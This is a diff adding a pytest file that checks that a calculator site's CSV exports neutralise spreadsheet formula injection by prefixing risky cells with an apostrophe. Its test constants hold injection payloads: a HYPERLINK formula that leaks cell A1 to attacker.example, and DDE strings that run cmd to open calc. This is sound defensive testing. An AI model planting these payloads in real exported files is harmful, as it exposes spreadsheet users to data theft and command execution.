@@ -1,0 +1,111 @@
+"""CSV formula injection (OWASP "CSV Injection"): no CSV the site or a calculator writes has a cell
+a spreadsheet would run. Cells starting with =, +, -, @, tab or carriage return get a leading
+apostrophe; real numbers (-5, +3.2, -0.5) and the guides' lone "-" stay as they are."""
+from __future__ import annotations
+
+import copy
+import csv
+import io
+
+import pytest
+
+from calculators import web
+from calculators.text import csv_cell, csv_writer
+from conftest import build_site, copy_data, rewrite_csv_cell
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+DDE = "=cmd|' /C calc'!A0"
+AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("cell, want", [
+    (HYPERLINK, "'" + HYPERLINK),
+    (DDE, "'" + DDE),
+    (AT_SUM, "'" + AT_SUM),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-XX:+TieredCompilation", "'-XX:+TieredCompilation"),  # data/shcm/settings.csv: Excel would run it as -XX:+...
+    ("-5", "-5"), ("+3.2", "+3.2"), ("-0.5", "-0.5"), ("-.5", "-.5"), ("1e-3", "1e-3"), ("-2E+4", "-2E+4"),
+    ("-", "-"),                                              # the guides' "not measured" dash: no formula can follow
+    ("BSF Management Service", "BSF Management Service"), ("a=b", "a=b"), ("", ""),
+    (-5, -5), (3.25, 3.25), (None, None),
+])
+def test_csv_cell(cell, want):
+    assert csv_cell(cell) == want
+
+
+def test_csv_writer_reads_back_as_text():
+    buf = io.StringIO()
+    csv_writer(buf).writerows([["name", "value"], [HYPERLINK, "-5"], [DDE, -0.5], [AT_SUM, "+3.2"]])
+    rows = list(csv.reader(io.StringIO(buf.getvalue())))
+    assert rows == [["name", "value"], ["'" + HYPERLINK, "-5"], ["'" + DDE, "-0.5"], ["'" + AT_SUM, "+3.2"]]
+    assert not any(c.startswith(("=", "@", "\t", "\r")) for r in rows for c in r)
+
+
+def _csv(out: dict) -> list[list[str]]:
+    assert out["ok"], out
+    return list(csv.reader(io.StringIO(out["downloads"]["csv"]["text"])))
+
+
+def _rename(o, old: str, new: str):
+    if isinstance(o, str):
+        return o.replace(old, new)
+    if isinstance(o, list):
+        return [_rename(x, old, new) for x in o]
+    if isinstance(o, dict):
+        return {k: _rename(v, old, new) for k, v in o.items()}
+    return o
+
+
+def test_overtarget_csv_neutralises_names_a_reader_pasted():
+    """The own-CSV rows of the over-target check name services as the reader typed them."""
+    own = ("name,replicas,cpu_request,observed,target\n"
+           f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",50,4,90%,75\n"{DDE}",2,1,80%,75\n{AT_SUM},3,1,70%,75\n')
+    from macros.bundle import build
+    from macros.datastore import cached
+    rows = _csv(web.run(build(cached()), {"calc": "overtarget", "product": "policy", "mem_threshold": "90", "csv": own}))
+    names = [r[6] for r in rows if r[0] == "own-cpu"]
+    assert names == ["'" + HYPERLINK, "'" + DDE, "'" + AT_SUM]
+    assert not [c for r in rows for c in r if c.startswith(("=", "@"))]
+
+
+@pytest.mark.parametrize("params", [
+    {"calc": "footprint", "scenario": "bsf-3-3", "load": "126000", "target": "70"},
+    {"calc": "asm", "on": "bsf-3-2", "off": "bsf-3-1"},
+])
+def test_calculator_csvs_neutralise_names_from_data(bundle, params):
+    """A service named like a formula in the data (BSF's Egress Gateway renamed) is inert in the
+    footprint and ASM CSVs; the numbers beside it (-/+ free) are unchanged."""
+    poisoned = _rename(copy.deepcopy(bundle), "Egress Gateway", HYPERLINK)
+    rows = _csv(web.run(poisoned, params))
+    assert any("'" + HYPERLINK in r for r in rows)
+    assert not [c for r in rows for c in r if c.startswith(("=", "@"))]
+    clean = _csv(web.run(bundle, params))
+    assert len(clean) == len(rows)
+    # only the renamed cells differ
+    diff = {(a, b) for r1, r2 in zip(clean, rows) for a, b in zip(r1, r2) if a != b}
+    assert diff == {("Egress Gateway", "'" + HYPERLINK)}
+
+
+def test_dataset_and_table_csvs_neutralise_cells(tmp_path):
+    """A data cell holding each payload reaches csv/resources.csv and the per-table CSV as text;
+    the XLSX and JSON keep the exact value."""
+    d = copy_data(tmp_path)
+    rewrite_csv_cell(d / "bsf" / "resources.csv", 0, "note", HYPERLINK)
+    rewrite_csv_cell(d / "bsf" / "resources.csv", 1, "note", DDE)
+    rewrite_csv_cell(d / "bsf" / "resources.csv", 2, "note", AT_SUM)
+    out = tmp_path / "site"
+    r = build_site(out, data=d)
+    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
+    first = next(csv.DictReader((d / "bsf" / "resources.csv").open()))
+    table = f"tables/bsf/{first['table_id']}.csv"
+    for path in ("csv/resources.csv", table):
+        rows = list(csv.DictReader((out / "downloads" / path).open(encoding="utf-8")))
+        notes = [x["note"] for x in rows if x["doc"] == "bsf"][:3]
+        assert notes == ["'" + HYPERLINK, "'" + DDE, "'" + AT_SUM], path
+        assert not [c for x in rows for c in x.values() if c.startswith(("=", "@"))], path
+    import json
+    js = json.loads((out / "downloads" / "json" / "resources.json").read_text(encoding="utf-8"))
+    assert [x["note"] for x in js if x["doc"] == "bsf"][:3] == [HYPERLINK, DDE, AT_SUM]
